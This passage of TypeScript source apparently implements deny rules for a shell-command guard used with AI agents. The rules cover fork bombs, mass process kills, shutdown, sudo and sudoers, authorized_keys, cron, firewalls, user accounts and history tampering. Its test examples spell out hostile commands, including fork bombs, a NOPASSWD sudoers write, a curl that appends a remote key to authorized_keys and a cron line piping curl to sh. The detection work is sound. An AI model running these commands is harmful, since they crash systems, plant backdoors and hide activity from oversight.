// Built-in rules: system family (fork bombs, killing everything, shutdown, services) and sec.* rules for
// privilege, persistence and security weakening (sudo, sudoers, authorized_keys, cron, shell init files,
// systemd/launchd units, SELinux/AppArmor, firewalls, user accounts, history tampering).

import { parseArgs } from '../../shell/args.ts';
import { basename, interpreterFamily, programName, staticValue } from '../../shell/program.ts';
import type { Analysis, SimpleCommand, Word } from '../../shell/types.ts';
import { defineShellRule, type Rule, type RuleContext, type RuleHit } from '../rule.ts';
import { has, pathTargets, type PathTarget } from './writes.ts';
import { ctxFacts } from './network.ts';
import { rules as processControl } from './process-control.ts';

// ---------------------------------------------------------------------------------------------------------
// Helpers

function values(words: readonly Word[]): string[] {
  return words.map((w) => staticValue(w) ?? w.value);
}

function firstTarget(cmd: SimpleCommand, ctx: RuleContext, analysis: Analysis, test: (t: PathTarget) => boolean): PathTarget | null {
  for (const t of pathTargets(cmd, ctx, analysis)) if (!t.placeholder && test(t)) return t;
  return null;
}

function lower(p: string | null): string {
  return (p ?? '').toLowerCase();
}

/** The path of a target as far as it is known: the resolved one, else what was written. */
function where(t: PathTarget): string {
  return t.info.abs ?? t.path;
}

const SUDOERS_RE = /(^|\/)sudoers(\.d)?(\/|$|\.)|(^|\/)sudoers$/;
const AUTH_KEYS_RE = /(^|\/)authorized_keys2?$/;
const CRON_RE = /^(\/private)?\/etc\/cron|^(\/private)?\/var\/spool\/cron|^(\/private)?\/var\/at(\/|$)|^\/usr\/lib\/cron(\/|$)|(^|\/)crontab$|(^|\/)anacrontab$/;
const SERVICE_RE = /\/(systemd|launchagents|launchdaemons|autostart|init\.d|rc\d\.d|xinetd\.d)(\/|$)|^\/etc\/rc\.local$|\/\.config\/upstart\//;
const HISTORY_FILE_RE = /(^|\/)\.(bash|zsh|sh|ksh|fish|python|node_repl|mysql|psql|sqlite|lesshst|rediscli|irb|pry|php)_?history$|(^|\/)\.(histfile|zhistory|lesshst)$|(^|\/)fish_history$/;

type PersistenceKind = 'sudoers' | 'authorized-keys' | 'cron' | 'service' | 'other';

/** Which persistence mechanism a path belongs to, by name, or null when it is none. */
function persistenceKind(t: PathTarget): PersistenceKind | null {
  const p = lower(where(t));
  const q = lower(t.path);
  if (SUDOERS_RE.test(p) || SUDOERS_RE.test(q)) return 'sudoers';
  if (AUTH_KEYS_RE.test(p) || AUTH_KEYS_RE.test(q)) return 'authorized-keys';
  if (CRON_RE.test(p)) return 'cron';
  if (SERVICE_RE.test(p)) return 'service';
  if (has(t.info, 'persistence')) return 'other';
  return null;
}

/** A command's first path target (not a placeholder) of each persistence kind. */
type KindTargets = { readonly [K in PersistenceKind]?: PathTarget };

/** The answer for the many commands that write no persistence file: one shared object, read-only. */
const NO_KIND_TARGETS: KindTargets = Object.freeze({});

function targetOfKind(cmd: SimpleCommand, ctx: RuleContext, analysis: Analysis, kind: PersistenceKind): PathTarget | null {
  // Cheap exit: most commands write nothing.
  const targets = pathTargets(cmd, ctx, analysis);
  if (targets.length === 0) return null;
  // Five rules ask, each for one kind: the targets are sorted by kind once per command, in the command's facts
  // (a per-target WeakMap memo cost a lookup per target per rule).
  const facts = ctxFacts(cmd, ctx);
  let byKind = facts.persistence as KindTargets | undefined;
  if (byKind === undefined) {
    let found: { [K in PersistenceKind]?: PathTarget } | null = null;
    for (const t of targets) {
      if (t.placeholder) continue;
      const k = persistenceKind(t);
      if (k === null) continue;
      found ??= {};
      if (found[k] === undefined) found[k] = t;
    }
    byKind = found ?? NO_KIND_TARGETS;
    facts.persistence = byKind;
  }
  return byKind[kind] ?? null;
}

function verb(t: PathTarget): string {
  return t.kind === 'delete' ? 'Deleting' : t.kind === 'modify' ? 'Changing' : 'Writing';
}

// ---------------------------------------------------------------------------------------------------------
// Fork bombs

const INLINE_FORK_RE = /\bfork\s*(?:\(\s*\))?\s*while\s+fork|while\s*\(?\s*(?:1|true|True)\s*\)?\s*[:{]?\s*(?:os\.)?fork\s*\(|(?:os\.)?fork\(\)\s+while\s+(?:1|true|True)|loop\s*\{\s*fork|for\s*\(\s*;\s*;\s*\)\s*\{?\s*fork\s*\(/;
const INLINE_INTERPRETERS = new Set(['perl', 'python', 'pypy', 'ruby', 'php', 'node', 'lua', 'awk', 'gawk', 'mawk', 'nawk']);

/** A shell function that calls itself through a pipe (`:(){ :|:& };:`), or twice when it is the only function. */
function shellForkBomb(cmd: SimpleCommand, analysis: Analysis): string | null {
  if (!cmd.inFunction || analysis.functions.length === 0) return null;
  const name = programName(cmd);
  if (name === null || !analysis.functions.includes(name)) return null;
  const selfPiped = (ids: readonly number[]): boolean => ids.some((id) => {
    const c = analysis.commands[id];
    return c !== undefined && c.inFunction && programName(c) === name;
  });
  if (selfPiped(cmd.pipeTo) || (cmd.stdin.kind === 'pipe' && selfPiped(cmd.stdin.from))) return name;
  // Without function boundaries in the analysis, "calls itself twice" is only certain when one function exists.
  if (new Set(analysis.functions).size === 1) {
    let calls = 0;
    for (const c of analysis.commands) if (c.inFunction && programName(c) === name) calls++;
    if (calls >= 2) return name;
  }
  return null;
}

// ---------------------------------------------------------------------------------------------------------
// kill

/** pid -1 (every process the caller may signal) or 1 (init) among kill's operands. */
function killAllHit(cmd: SimpleCommand): RuleHit | null {
  const name = programName(cmd);
  const words = values(cmd.argv.slice(1));
  if (name === 'killall5') return { reason: '`killall5` signals every process on the machine.' };
  if (name === 'kill') {
    let i = 0;
    let signalSeen = false;
    for (; i < words.length; i++) {
      const w = words[i]!;
      if (w === '--') { i++; break; }
      if (w === '-l' || w === '-L' || w === '--list' || w === '--table') return null;
      if (w === '-s' || w === '-n' || w === '--signal') { i++; signalSeen = true; continue; }
      if (/^-[A-Za-z0-9+]+$/.test(w) && !signalSeen) { signalSeen = true; continue; }
      break;
    }
    for (const w of words.slice(i)) {
      if (w === '-1') return { reason: '`kill … -1` signals every process you own (or all, as root): it ends the session and everything in it.', subject: w };
      if (w === '1') return { reason: 'Signalling pid 1 (init) brings the system down.', subject: w };
    }
    return null;
  }
  if (name === 'pkill' || name === 'killall') {
    const p = parseArgs(cmd, { shortWithValue: 'uUgGPstFn', longWithValue: ['euid', 'uid', 'group', 'pgroup', 'parent', 'session', 'terminal', 'pidfile', 'ns', 'nslist', 'signal', 'user', 'older-than', 'younger-than'] });
    const patterns = p.operands.map((w) => staticValue(w) ?? w.value);
    if (patterns.some((x) => /^(\^?\.[*+]?\$?|\^|\.\*|\*|\^\$|)$/.test(x))) {
      return { reason: `\`${name}\` with a pattern that matches every process kills the whole session.`, subject: patterns.join(' ') };
    }
    // pkill -v stops every process its pattern does NOT match: all but a few.
    if (name === 'pkill' && (p.flags.has('v') || p.flags.has('inverse')) && patterns.length > 0) {
      return { reason: '`pkill -v` stops every process its pattern does not match: nearly all of them, the session included.', subject: patterns.join(' ') };
    }
    if (name === 'killall' && (p.flags.has('r') || p.flags.has('regexp')) && patterns.some((x) => x === '.' || x === '.*')) {
      return { reason: '`killall -r .` kills every process.' };
    }
    return null;
  }
  return null;
}

// ---------------------------------------------------------------------------------------------------------
// systemctl and friends

const SYSTEMCTL_VALUE_OPTS = new Set(['-H', '--host', '-M', '--machine', '-t', '--type', '-p', '--property', '-s', '--signal', '--kill-whom', '--kill-value', '--job-mode', '--state', '-n', '--lines', '-o', '--output', '--root', '--image', '--message', '--what', '--boot-loader-menu', '--boot-loader-entry', '--timestamp', '--preset-mode', '--when', '--check-inhibitors', '--drop-in', '-P']);

/** systemctl's verb and its operands, past global options. */
function systemctlArgs(cmd: SimpleCommand): { verb: string | null; ops: string[]; user: boolean } {
  const words = values(cmd.argv.slice(1));
  const ops: string[] = [];
  let user = false;
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (w === '--user' || w === '--global') user = true;
    if (w.startsWith('-')) {
      if (SYSTEMCTL_VALUE_OPTS.has(w)) i++;
      continue;
    }
    ops.push(w);
  }
  return { verb: ops[0]?.toLowerCase() ?? null, ops: ops.slice(1), user };
}

/** `service NAME ACTION` / `rc-service NAME ACTION`. */
function serviceArgs(cmd: SimpleCommand): { name: string | null; action: string | null } {
  const ops = values(cmd.argv.slice(1)).filter((w) => !w.startsWith('-'));
  return { name: ops[0]?.toLowerCase() ?? null, action: ops[1]?.toLowerCase() ?? null };
}

const SHUTDOWN_VERBS = new Set(['poweroff', 'reboot', 'halt', 'kexec', 'soft-reboot', 'rescue', 'emergency', 'exit']);
const SLEEP_VERBS = new Set(['suspend', 'hibernate', 'hybrid-sleep', 'suspend-then-hibernate', 'sleep']);
const SHUTDOWN_TARGETS = /^(poweroff|reboot|halt|kexec|rescue|emergency|runlevel[0156]|shutdown|soft-reboot)\.target$/;
const SERVICE_CONTROL_VERBS = new Set(['start', 'stop', 'restart', 'reload', 'try-restart', 'reload-or-restart', 'try-reload-or-restart', 'condrestart', 'force-reload', 'kill', 'mask', 'disable', 'isolate', 'daemon-reexec', 'freeze', 'thaw', 'clean', 'unmask', 'reset-failed', 'daemon-reload', 'set-property', 'set-environment', 'unset-environment', 'import-environment', 'switch-root']);
const SERVICE_READ_VERBS = new Set(['status', 'is-active', 'is-enabled', 'is-failed', 'is-system-running', 'list-units', 'list-unit-files', 'list-timers', 'list-sockets', 'list-dependencies', 'list-jobs', 'list-machines', 'list-paths', 'list-automounts', 'show', 'cat', 'help', 'get-default', 'show-environment', 'whoami']);
const UNIT_INSTALL_VERBS = new Set(['enable', 'link', 'preset', 'preset-all', 'edit', 'set-default', 'add-wants', 'add-requires', 'reenable']);
const SERVICE_ACTIONS = new Set(['start', 'stop', 'restart', 'reload', 'force-reload', 'try-restart', 'condrestart', 'zap', 'pause', 'resume']);

const FIREWALL_SERVICES = /^(firewalld|ufw|nftables|iptables|ip6tables|netfilter-persistent|pf|shorewall|csf|lfd)(\.service)?$/;
const MAC_SERVICES = /^(apparmor|auditd|selinux.*|fail2ban|crowdstrike.*|falcon-sensor|osqueryd|wazuh-agent|clamav-daemon)(\.service)?$/;

// ---------------------------------------------------------------------------------------------------------
// Firewalls

const IPTABLES = ['iptables', 'ip6tables', 'iptables-legacy', 'ip6tables-legacy', 'iptables-nft', 'ip6tables-nft', 'ebtables', 'arptables', 'nft', 'ufw', 'firewall-cmd', 'pfctl', 'netsh'] as const;

function firewallHit(cmd: SimpleCommand): RuleHit | null {
  const name = programName(cmd);
  const words = values(cmd.argv.slice(1));
  const lw = words.map((w) => w.toLowerCase());
  if (name === 'nft') {
    const j = lw.join(' ');
    if (/\bflush ruleset\b|\bflush table\b|\bflush chain\b|\bdelete table\b|\bdelete chain\b/.test(j)) return { reason: `\`nft ${words.join(' ')}\` removes firewall rules.` };
    if (/\b(add|insert|replace|delete) rule\b/.test(j)) return { tier: 'soft_deny', reason: 'Changing nftables rules alters what the machine exposes; ask first.' };
    return null;
  }
  if (name === 'ufw') {
    const ops = lw.filter((w) => !w.startsWith('-'));
    if (ops[0] === 'disable' || ops[0] === 'reset') return { reason: `\`ufw ${ops[0]}\` turns the firewall off.` };
    if (ops[0] === 'allow' || ops[0] === 'delete' || ops[0] === 'insert' || ops[0] === 'route' || (ops[0] === 'default' && ops.includes('allow'))) {
      return { tier: ops[0] === 'default' ? 'hard_deny' : 'soft_deny', reason: `\`ufw ${ops.join(' ')}\` changes what the firewall lets in; ask first.` };
    }
    return null;
  }
  if (name === 'firewall-cmd') {
    if (lw.includes('--set-default-zone=trusted')) return { reason: 'Making `trusted` the default zone opens every port.' };
    const i = lw.indexOf('--set-default-zone');
    if (i >= 0 && lw[i + 1] === 'trusted') return { reason: 'Making `trusted` the default zone opens every port.' };
    if (lw.some((w) => /^--(add|remove)-(port|service|rich-rule|source|interface|masquerade|forward-port)/.test(w))) {
      return { tier: 'soft_deny', reason: 'Changing firewalld rules alters what the machine exposes; ask first.' };
    }
    return null;
  }
  if (name === 'pfctl') {
    if (lw.includes('-d')) return { reason: '`pfctl -d` disables the packet filter.' };
    if (words.includes('-F')) return { reason: '`pfctl -F` flushes the packet filter rules.' };
    if (words.includes('-f')) return { tier: 'soft_deny', reason: 'Loading new pf rules changes what the machine exposes; ask first.' };
    return null;
  }
  if (name === 'netsh') {
    const j = lw.join(' ');
    if (/advfirewall .*state off|firewall set opmode (mode=)?disable/.test(j)) return { reason: 'This turns the Windows firewall off.' };
    return null;
  }
  // iptables family
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (w === '-F' || w === '--flush' || w === '-X' || w === '--delete-chain' || /^-[a-zA-Z]*F$/.test(w) && !w.startsWith('--')) {
      return { reason: `\`${name} ${w}\` removes firewall rules and leaves the machine open.` };
    }
    if ((w === '-P' || w === '--policy') && lw[i + 2] === 'accept') return { reason: `\`${name} -P ${words[i + 1] ?? ''} ACCEPT\` makes the firewall let everything through.` };
  }
  if (words.some((w) => /^-[AIDR]$/.test(w) || /^--(append|insert|delete|replace)$/.test(w))) {
    return { tier: 'soft_deny', reason: 'Changing iptables rules alters what the machine exposes; ask first.' };
  }
  return null;
}

// ---------------------------------------------------------------------------------------------------------
// Users and groups

const USER_ADMIN = ['useradd', 'adduser', 'usermod', 'userdel', 'deluser', 'passwd', 'chpasswd', 'groupadd', 'groupdel', 'groupmod', 'gpasswd', 'addgroup', 'delgroup', 'chsh', 'chfn', 'chage', 'vipw', 'vigr', 'newusers', 'dscl', 'sysadminctl', 'dseditgroup', 'pw', 'usermod.exe', 'net'] as const;
const PRIV_GROUPS = /^(sudo|wheel|admin|root|sudoers|adm|shadow|disk)$/;

function userAdminHit(cmd: SimpleCommand): RuleHit | null {
  const name = programName(cmd);
  const words = values(cmd.argv.slice(1));
  const lw = words.map((w) => w.toLowerCase());
  if (name === 'net') {
    if (!['user', 'localgroup', 'group'].includes(lw[0] ?? '')) return null;
    if (lw.includes('administrators')) return { reason: 'Adding a user to Administrators grants full control of the machine.' };
    return { tier: 'soft_deny' };
  }
  if (name === 'passwd' && (lw.includes('-s') || lw.includes('--status') || lw.includes('-S'))) return null;
  if (name === 'dscl' && !lw.some((w) => /^-(create|append|delete|merge|change|passwd)$/.test(w))) return null;
  if (name === 'pw' && !['useradd', 'usermod', 'userdel', 'groupadd', 'groupmod', 'groupdel', 'lock', 'unlock'].includes(lw[0] ?? '')) return null;
  // Privileged group membership or uid 0 is root access by another name.
  const groups: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (/^-[a-zA-Z]*[Gg]$/.test(w) || w === '--groups' || w === '--gid' || w === '--append-groups') groups.push(...(words[i + 1] ?? '').split(','));
    else if (w.startsWith('--groups=')) groups.push(...w.slice(9).split(','));
  }
  if (name === 'gpasswd' || name === 'adduser' || name === 'addgroup' || name === 'dseditgroup' || name === 'dscl') groups.push(...words.filter((w) => !w.startsWith('-')).map((w) => basename(w)));
  if (name === 'sysadminctl' && lw.includes('-admin')) groups.push('admin');
  if (groups.some((g) => PRIV_GROUPS.test(g.toLowerCase()))) {
    return { reason: 'Adding an account to a privileged group (sudo/wheel/admin) grants root access; a person must do this.' };
  }
  for (let i = 0; i < words.length; i++) {
    if ((words[i] === '-u' || words[i] === '--uid') && words[i + 1] === '0') return { reason: 'An account with uid 0 is a second root account.' };
  }
  return { tier: 'soft_deny' };
}

// ---------------------------------------------------------------------------------------------------------
// History tampering

const HISTORY_PROGRAMS: ReadonlySet<string> = new Set(['history', 'unset', 'export', 'declare', 'typeset', 'set', 'setopt', 'unsetopt', 'shopt', 'journalctl', 'wevtutil']);
const HIST_VARS = /^(HISTFILE|HISTSIZE|HISTFILESIZE|SAVEHIST|HISTCONTROL|HISTIGNORE|PROMPT_COMMAND_HISTORY)$/;

function historyHit(cmd: SimpleCommand, ctx: RuleContext, analysis: Analysis): RuleHit | null {
  // Bare or prefix assignments: HISTFILE=/dev/null, HISTSIZE=0.
  for (const a of cmd.assignments) {
    if (!HIST_VARS.test(a.name)) continue;
    const v = staticValue(a.value) ?? a.value.value;
    if (a.name === 'HISTFILE' || v === '0' || v === '' || /ignore(space|both)|\*/.test(v)) {
      return { reason: `Setting ${a.name}=${v} stops the shell from recording commands; leave history alone.`, subject: `${a.name}=${v}` };
    }
  }
  const name = programName(cmd);
  if (name === null) return null;
  if (!HISTORY_PROGRAMS.has(name)) {
    const t = firstTarget(cmd, ctx, analysis, (x) => HISTORY_FILE_RE.test(x.info.abs ?? x.path));
    return t ? { reason: `${verb(t)} the history file ${t.path} hides what was run; leave it alone.`, subject: t.path } : null;
  }
  const words = values(cmd.argv.slice(1));
  if (name === 'history') {
    if (words.some((w) => /^-[a-z]*[cdw]/.test(w) && !/^-[a-z]*w$/.test(w)) || words.some((w) => /^-[a-z]*c/.test(w))) {
      return { reason: '`history -c`/`-d` erases the command history; leave it alone.' };
    }
    if (words[0] === '-w' && words[1] && /^\/dev\/null$/.test(words[1])) return { reason: 'Writing history to /dev/null discards it.' };
    return null;
  }
  if (name === 'unset') {
    const v = words.find((w) => HIST_VARS.test(w));
    return v ? { reason: `\`unset ${v}\` stops the shell from recording commands.`, subject: v } : null;
  }
  if (name === 'export' || name === 'declare' || name === 'typeset' || name === 'set' || name === 'setopt' || name === 'unsetopt' || name === 'shopt') {
    for (const w of words) {
      const m = /^([A-Z_]+)=(.*)$/.exec(w);
      if (m && HIST_VARS.test(m[1]!) && (m[1] === 'HISTFILE' || m[2] === '0' || m[2] === '' || /ignore/.test(m[2]!))) {
        return { reason: `\`${name} ${w}\` stops the shell from recording commands.`, subject: w };
      }
    }
    if (name === 'set' && words.join(' ').includes('+o history')) return { reason: '`set +o history` turns command history off.' };
    if (name === 'unsetopt' && words.some((w) => /hist/i.test(w))) return { reason: 'Turning history options off hides commands.' };
    return null;
  }
  if (name === 'journalctl') {
    const w = words.find((x) => /^--(vacuum-(time|size|files)|rotate|flush)/.test(x));
    return w ? { reason: `\`journalctl ${w}\` deletes or rotates away system logs; leave logs alone.`, subject: w } : null;
  }
  if (name === 'wevtutil' && words.some((w) => /^(cl|clear-log)$/i.test(w))) return { reason: 'Clearing the Windows event log hides what happened.' };
  const t = firstTarget(cmd, ctx, analysis, (x) => HISTORY_FILE_RE.test(x.info.abs ?? x.path));
  if (t) return { reason: `${verb(t)} the history file ${t.path} hides what was run; leave it alone.`, subject: t.path };
  return null;
}

// ---------------------------------------------------------------------------------------------------------
// The rules

/** The programs sec.systemd-unit reads by name (the rest of its hits are path targets). */
const UNIT_PROGRAMS = ['systemctl', 'launchctl', 'update-rc.d', 'chkconfig', 'rc-update'];
const SELINUX_PROGRAMS: ReadonlySet<string> = new Set(['setenforce', 'aa-disable', 'aa-complain', 'aa-teardown', 'apparmor_parser', 'auditctl', 'setsebool', 'systemctl', 'service']);
const SHELLS_AND_INTERPRETERS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'fish', ...INLINE_INTERPRETERS]);

export const rules: Rule[] = [
  // Hard and locked: a fork bomb has no use but to freeze the machine.
  defineShellRule({
    id: 'sys.fork-bomb',
    // Inline code of a shell or interpreter (every SHELLS_AND_INTERPRETERS family is an interpreter trait), or a
    // shell function calling itself (the line defines functions).
    needs: { traits: ['interpreter', 'functions'] },
    tier: 'hard_deny',
    locked: true,
    reason: 'A fork bomb multiplies processes until the machine freezes; never run it.',
    examples: {
      match: [':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb', 'f(){ f & f; }; f', 'perl -e "fork while fork"', 'python3 -c "import os\nwhile True: os.fork()"'],
      notMatch: ['f() { echo hi; }; f', 'a() { b | c; }; a', 'perl -e "print 1"', 'echo ":(){ :|:& };:"'],
    },
    match: (cmd, _ctx, analysis) => {
      if (cmd.argv.length > 1) {
        const name = programName(cmd);
        const fam = name === null ? '' : interpreterFamily(name);
        if (SHELLS_AND_INTERPRETERS.has(fam)) {
          for (const w of cmd.argv) if (INLINE_FORK_RE.test(w.value)) return { reason: 'This code forks in an endless loop: a fork bomb. Never run it.' };
        }
      }
      const f = shellForkBomb(cmd, analysis);
      return f ? { reason: `The function \`${f}\` calls itself in a pipe or twice: a fork bomb that freezes the machine. Never run it.`, subject: f } : null;
    },
  }),
  // Hard: killing every process ends the user's session and everything running in it.
  defineShellRule({
    id: 'sys.kill-all',
    tier: 'hard_deny',
    programs: ['kill', 'pkill', 'killall', 'killall5'],
    reason: 'This signals every process: it ends the session and everything running; kill the specific process id instead.',
    examples: {
      match: ['kill -9 -1', 'kill -KILL -1', 'kill -s KILL -1', 'kill -- -1', 'pkill -9 .', 'killall5 -9', 'kill -9 1', 'pkill -f ".*"', 'pkill -v vite'],
      notMatch: ['kill 1234', 'kill -9 4321', 'pkill -f "node server.js"', 'kill -l', 'killall node'],
    },
    match: (cmd) => killAllHit(cmd),
  }),
  // Hard: shutting the machine down or rebooting it is never part of development work done by an agent.
  defineShellRule({
    id: 'sys.shutdown',
    tier: 'hard_deny',
    programs: ['shutdown', 'reboot', 'halt', 'poweroff', 'init', 'telinit', 'systemctl', 'loginctl'],
    reason: 'This shuts down or reboots the machine; ask the user to do it.',
    examples: {
      match: ['shutdown -h now', 'sudo reboot', 'halt', 'poweroff', 'init 0', 'telinit 6', 'systemctl poweroff', 'systemctl reboot --force', 'systemctl isolate rescue.target', 'loginctl reboot', 'systemctl suspend'],
      notMatch: ['shutdown -c', 'systemctl status nginx', 'init --version', 'systemctl restart myapp', 'reboot --help'],
    },
    match: (cmd) => {
      const name = programName(cmd);
      const words = values(cmd.argv.slice(1));
      if (words.some((w) => w === '--help' || w === '-h' && name !== 'shutdown' || w === '--version' || w === '-V')) return null;
      switch (name) {
        case 'shutdown':
          return words.includes('-c') || words.includes('--show') ? null : true;
        case 'reboot':
        case 'halt':
        case 'poweroff':
          return words.includes('-w') || words.includes('--wtmp-only') ? null : true;
        case 'init':
        case 'telinit':
          return words.some((w) => /^[0156sS]$/.test(w) || w === 'emergency' || w === 'rescue') ? { reason: `\`${name} ${words.join(' ')}\` changes the runlevel: the machine stops or drops to single-user mode.` } : null;
        case 'systemctl': {
          const s = systemctlArgs(cmd);
          if (s.verb === null) return null;
          if (SHUTDOWN_VERBS.has(s.verb)) return true;
          if (SLEEP_VERBS.has(s.verb)) return { tier: 'soft_deny', reason: `\`systemctl ${s.verb}\` puts the machine to sleep; ask the user.` };
          if ((s.verb === 'isolate' || s.verb === 'start') && s.ops.some((o) => SHUTDOWN_TARGETS.test(o))) return true;
          return null;
        }
        case 'loginctl': {
          const ops = words.filter((w) => !w.startsWith('-'));
          const v = ops[0];
          if (v && SHUTDOWN_VERBS.has(v)) return true;
          if (v && SLEEP_VERBS.has(v)) return { tier: 'soft_deny', reason: `\`loginctl ${v}\` puts the machine to sleep; ask the user.` };
          if (v === 'terminate-user' || v === 'kill-user' || v === 'terminate-session' || v === 'kill-session') return { tier: 'soft_deny', reason: `\`loginctl ${v}\` ends a login session.` };
          return null;
        }
        default:
          return null;
      }
    },
  }),
  // Soft: starting and stopping services changes what runs on the machine (and may take a site down);
  // sometimes it is the task.
  defineShellRule({
    id: 'sys.service-control',
    tier: 'soft_deny',
    programs: ['systemctl', 'service', 'rc-service', 'launchctl', 'sv'],
    reason: 'Starting, stopping or disabling system services changes what runs on the machine; ask first.',
    examples: {
      match: ['systemctl stop nginx', 'sudo systemctl restart postgresql', 'service haproxy stop', 'systemctl mask sshd', 'launchctl unload ~/Library/LaunchAgents/x.plist', 'systemctl --user restart myapp', 'systemctl daemon-reload'],
      notMatch: ['systemctl status nginx', 'service nginx status', 'systemctl list-units', 'launchctl list', 'systemctl enable x'],
    },
    match: (cmd) => {
      const name = programName(cmd);
      if (name === 'systemctl') {
        const s = systemctlArgs(cmd);
        return s.verb !== null && SERVICE_CONTROL_VERBS.has(s.verb) ? { subject: [s.verb, ...s.ops].join(' ') } : null;
      }
      if (name === 'service' || name === 'rc-service') {
        const s = serviceArgs(cmd);
        return s.action !== null && SERVICE_ACTIONS.has(s.action) ? { subject: `${s.name ?? ''} ${s.action}` } : null;
      }
      if (name === 'sv') {
        const a = values(cmd.argv.slice(1)).filter((w) => !w.startsWith('-'))[0];
        return a && /^(up|down|stop|start|restart|kill|term|exit|reload|force-.*)$/.test(a) ? true : null;
      }
      if (name === 'launchctl') {
        const v = values(cmd.argv.slice(1)).filter((w) => !w.startsWith('-'))[0]?.toLowerCase();
        return v && ['unload', 'bootout', 'stop', 'start', 'kickstart', 'kill', 'remove', 'disable', 'reboot'].includes(v) ? (v === 'reboot' ? { reason: '`launchctl reboot` restarts the machine or userspace.' } : true) : null;
      }
      return null;
    },
  }),
  // Allow: asking the service manager what runs is read-only.
  defineShellRule({
    id: 'sys.service-status',
    tier: 'allow',
    programs: ['systemctl', 'service', 'launchctl', 'journalctl'],
    reason: 'Reads the state of system services or their logs.',
    examples: {
      match: ['systemctl status nginx', 'service haproxy status', 'systemctl list-units --failed', 'launchctl list', 'journalctl -u nginx --since today', 'service --status-all'],
      notMatch: ['systemctl stop nginx', 'journalctl --vacuum-time=1s', 'launchctl load x.plist'],
    },
    match: (cmd) => {
      const name = programName(cmd);
      const words = values(cmd.argv.slice(1));
      if (name === 'systemctl') {
        const s = systemctlArgs(cmd);
        return s.verb === null ? words.some((w) => w === '--version' || w === '--help') || words.length === 0 : SERVICE_READ_VERBS.has(s.verb);
      }
      if (name === 'service') return words.includes('--status-all') || serviceArgs(cmd).action === 'status';
      if (name === 'launchctl') {
        const v = words.filter((w) => !w.startsWith('-'))[0]?.toLowerCase();
        return v === 'list' || v === 'print' || v === 'print-disabled' || v === 'blame' || v === 'version' || v === 'help';
      }
      if (name === 'journalctl') return !words.some((w) => /^--(vacuum|rotate|flush|relinquish-var|setup-keys|sync|update-catalog)/.test(w));
      return null;
    },
  }),
  // Soft: root itself is sometimes needed (installing a system package), but every sudo deserves a look; the
  // command it runs gets its own rules as well.
  defineShellRule({
    id: 'sec.sudo',
    tier: 'soft_deny',
    programs: ['sudo', 'doas', 'su', 'pkexec', 'run0', 'sudoedit', 'runuser', 'gosu', 'su-exec'],
    reason: 'This runs with root (or another user\'s) privileges; ask the user, and prefer doing the work without them.',
    examples: {
      match: ['sudo apt-get install -y jq', 'sudo -i', 'su -', 'doas ls /root', 'pkexec bash', 'sudo -u postgres psql', 'sudoedit /etc/hosts', 'su -c "id" root'],
      notMatch: ['echo sudo', 'sudo -k', 'sudo -V', 'git commit -m "use sudo"'],
    },
    match: (cmd) => {
      const name = programName(cmd);
      const words = values(cmd.argv.slice(1));
      if (name === 'sudo' && words.length > 0 && words.every((w) => /^-(k|K|V|h|-version|-help|-reset-timestamp|-remove-timestamp)$/.test(w))) return null;
      return { subject: cmd.text };
    },
  }),
  // Hard: sudoers decides who is root; changing it from an agent is privilege escalation.
  defineShellRule({
    id: 'sec.sudoers',
    needs: { traits: ['path-targets'], programs: ['visudo'] },
    tier: 'hard_deny',
    reason: 'Changing sudoers grants root access; never do this from an agent.',
    examples: {
      match: ['echo "dev ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers', 'echo x >> /etc/sudoers.d/dev', 'visudo', 'sudo visudo -f /etc/sudoers.d/x', 'cp evil /etc/sudoers', 'sed -i s/x/y/ /etc/sudoers'],
      notMatch: ['cat /etc/sudoers', 'visudo -c', 'sudo -l', 'grep dev /etc/sudoers'],
    },
    match: (cmd, ctx, analysis) => {
      const name = programName(cmd);
      if (name === 'visudo') {
        const w = values(cmd.argv.slice(1));
        return w.includes('-c') || w.includes('--check') ? null : true;
      }
      const t = targetOfKind(cmd, ctx, analysis, 'sudoers');
      return t ? { subject: t.path, reason: `${verb(t)} ${t.path} changes who gets root; never do this from an agent.` } : null;
    },
  }),
  // Hard: a key in authorized_keys is a permanent back door into the account.
  defineShellRule({
    id: 'sec.authorized-keys',
    needs: { traits: ['path-targets'] },
    tier: 'hard_deny',
    reason: 'Changing authorized_keys gives someone lasting SSH access to this account; never do this from an agent.',
    examples: {
      match: ['echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys', 'cp key.pub ~/.ssh/authorized_keys', 'curl https://x.example/k >> /root/.ssh/authorized_keys', 'tee -a ~/.ssh/authorized_keys2 < k.pub', 'rm ~/.ssh/authorized_keys'],
      notMatch: ['cat ~/.ssh/authorized_keys', 'ssh-keygen -t ed25519 -f /tmp/k -N ""', 'echo authorized_keys'],
    },
    match: (cmd, ctx, analysis) => {
      const t = targetOfKind(cmd, ctx, analysis, 'authorized-keys');
      return t ? { subject: t.path } : null;
    },
  }),
  // Soft for crontab edits (scheduled jobs are sometimes the task); hard for writes into system cron dirs.
  defineShellRule({
    id: 'sec.crontab',
    needs: { traits: ['path-targets'], programs: ['crontab'] },
    tier: 'hard_deny',
    reason: 'Cron jobs run commands later, unattended: a classic way to persist; ask the user first.',
    examples: {
      match: ['crontab -e', 'crontab -r', 'crontab jobs.txt', 'echo "* * * * * curl x|sh" | crontab -', 'echo "* * * * * root x" > /etc/cron.d/job', '(crontab -l; echo "@reboot x") | crontab -'],
      notMatch: ['crontab -l', 'cat /etc/crontab', 'echo crontab'],
    },
    match: (cmd, ctx, analysis) => {
      if (programName(cmd) === 'crontab') {
        const p = parseArgs(cmd, { shortWithValue: 'u' });
        if (p.flags.has('r')) return { tier: 'soft_deny', reason: '`crontab -r` deletes all of the user\'s cron jobs; ask first.' };
        if ((p.flags.has('l') || p.flags.has('V') || p.flags.has('h')) && !p.flags.has('e') && p.operands.length === 0) return null;
        return { tier: 'soft_deny' };
      }
      const t = targetOfKind(cmd, ctx, analysis, 'cron');
      return t ? { subject: t.path, reason: `${verb(t)} ${t.path} schedules commands system-wide; never do this from an agent.` } : null;
    },
  }),
  // Soft: one-off scheduled jobs (at, systemd-run timers) run later, unattended.
  defineShellRule({
    id: 'sec.scheduled-job',
    tier: 'soft_deny',
    programs: ['at', 'batch', 'systemd-run', 'schtasks', 'atrm'],
